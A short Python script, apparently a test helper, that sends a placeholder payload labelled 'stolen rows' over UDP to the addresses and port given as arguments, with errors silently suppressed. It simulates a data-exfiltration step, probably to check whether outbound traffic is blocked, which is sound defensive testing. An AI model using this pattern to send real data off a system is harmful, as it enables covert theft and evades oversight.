"""Send data to a receiver of the host over UDP: `ADDRESS,… PORT`."""

import contextlib
import socket
import sys

print("trying", flush=True)
for address in sys.argv[1].split(","):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"stolen rows", (address, int(sys.argv[2])))
